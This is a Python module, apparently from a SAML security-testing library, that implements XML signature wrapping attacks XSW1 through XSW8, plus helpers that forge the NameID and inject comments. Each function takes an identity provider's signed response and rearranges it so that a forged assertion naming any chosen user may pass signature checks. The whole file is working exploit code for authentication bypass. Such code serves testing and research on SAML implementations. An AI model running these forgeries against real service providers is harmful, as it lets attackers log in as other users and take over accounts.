"""Surgery on signed responses: the XML signature wrapping (XSW) family and friends.

Each function takes a response as the IdP signed it and returns what an attacker would send.
The names follow Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012).
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

from .._xml import NS_DS, NS_SAML, NS_SAMLP, qname

__all__ = ["XSW_ATTACKS", "forge_name_id", "inject_comment"]

_ASSERTION = qname(NS_SAML, "Assertion")
_SIGNATURE = qname(NS_DS, "Signature")
_NAME_ID = qname(NS_SAML, "NameID")


def forge_name_id(element: etree._Element, name_id: str) -> None:
    """Change the NameID inside ``element`` (an Assertion or a Response) to ``name_id``."""
    for found in element.iter(_NAME_ID):
        found.text = name_id


def inject_comment(xml: bytes, inside: str, at: int) -> bytes:
    """Insert ``<!---->`` at character ``at`` of the first text equal to ``inside``."""
    marker = inside.encode()
    return xml.replace(marker, marker[:at] + b"<!---->" + marker[at:], 1)


def _parts(xml: bytes) -> tuple[etree._Element, etree._Element]:
    response = etree.fromstring(xml)
    assertion = response.find(_ASSERTION)
    if assertion is None:
        raise ValueError("the response has no Assertion child")
    return response, assertion


def _without_signature(element: etree._Element) -> etree._Element:
    kept = copy.deepcopy(element)
    for signature in kept.findall(_SIGNATURE):
        kept.remove(signature)
    return kept


def _evil_copy(
    element: etree._Element, name_id: str, *, new_id: bool, keep_signature: bool
) -> etree._Element:
    evil = copy.deepcopy(element)
    if not keep_signature:
        for signature in evil.findall(_SIGNATURE):
            evil.remove(signature)
    forge_name_id(evil, name_id)
    if new_id:
        evil.set("ID", "_evil" + (element.get("ID") or ""))
    return evil


def _xsw1(xml: bytes, name_id: str, new_id: bool) -> bytes:
    """Evil Response at the root; the signed original inside its Signature (ds:Object)."""
    original, _ = _parts(xml)
    signature = original.find(_SIGNATURE)
    if signature is None:
        raise ValueError("XSW1 needs a signed Response")
    evil = _evil_copy(original, name_id, new_id=new_id, keep_signature=False)
    moved = copy.deepcopy(signature)
    obj = etree.SubElement(moved, qname(NS_DS, "Object"))
    kept = _without_signature(original)
    obj.append(kept)
    evil.insert(1, moved)
    return etree.tostring(evil)


def _xsw2(xml: bytes, name_id: str, new_id: bool) -> bytes:
    """Evil Response at the root; the signed original detached beside its Signature."""
    original, _ = _parts(xml)
    signature = original.find(_SIGNATURE)
    if signature is None:
        raise ValueError("XSW2 needs a signed Response")
    evil = _evil_copy(original, name_id, new_id=new_id, keep_signature=False)
    kept = _without_signature(original)
    evil.insert(1, copy.deepcopy(signature))
    evil.insert(1, kept)
    return etree.tostring(evil)


def _assertion_attack(
    build: Callable[[etree._Element, etree._Element, etree._Element], None],
    *,
    keep_signature: bool,
) -> Callable[[bytes, str, bool], bytes]:
    def attack(xml: bytes, name_id: str, new_id: bool) -> bytes:
        response, original = _parts(xml)
        if original.find(_SIGNATURE) is None:
            raise ValueError("this attack needs a signed Assertion")
        evil = _evil_copy(original, name_id, new_id=new_id, keep_signature=keep_signature)
        build(response, original, evil)
        return etree.tostring(response)

    attack.__doc__ = build.__doc__
    return attack


def _xsw3(response: etree._Element, original: etree._Element, evil: etree._Element) -> None:
    """Evil Assertion inserted before the signed original."""
    original.addprevious(evil)


def _xsw4(response: etree._Element, original: etree._Element, evil: etree._Element) -> None:
    """Evil Assertion in place; the signed original nested inside it."""
    original.addprevious(evil)
    evil.append(original)


def _xsw5(response: etree._Element, original: etree._Element, evil: etree._Element) -> None:
    """Evil Assertion carrying the original's Signature in place; the original appended last."""
    original.addprevious(evil)
    response.remove(original)
    response.append(original)


def _xsw6(response: etree._Element, original: etree._Element, evil: etree._Element) -> None:
    """Evil Assertion carrying the Signature; the original inside that Signature."""
    original.addprevious(evil)
    signature = evil.find(_SIGNATURE)
    assert signature is not None
    signature.append(original)


def _xsw7(response: etree._Element, original: etree._Element, evil: etree._Element) -> None:
    """The signed original hidden in samlp:Extensions; the evil Assertion in its place."""
    extensions = etree.Element(qname(NS_SAMLP, "Extensions"))
    original.addprevious(evil)
    response.insert(1, extensions)
    extensions.append(original)


def _xsw8(response: etree._Element, original: etree._Element, evil: etree._Element) -> None:
    """Evil Assertion with the Signature; the original, unsigned, in a ds:Object inside it."""
    original.addprevious(evil)
    signature = evil.find(_SIGNATURE)
    assert signature is not None
    obj = etree.SubElement(signature, qname(NS_DS, "Object"))
    own = original.find(_SIGNATURE)
    assert own is not None
    original.remove(own)
    obj.append(original)


XSW_ATTACKS: dict[str, Callable[[bytes, str, bool], bytes]] = {
    "xsw1": _xsw1,
    "xsw2": _xsw2,
    "xsw3": _assertion_attack(_xsw3, keep_signature=False),
    "xsw4": _assertion_attack(_xsw4, keep_signature=False),
    "xsw5": _assertion_attack(_xsw5, keep_signature=True),
    "xsw6": _assertion_attack(_xsw6, keep_signature=True),
    "xsw7": _assertion_attack(_xsw7, keep_signature=False),
    "xsw8": _assertion_attack(_xsw8, keep_signature=True),
}
"""name -> attack(signed_response_xml, forged_name_id, new_id) -> attacked XML. ``new_id``
gives the forged element a fresh ID instead of reusing the original's."""
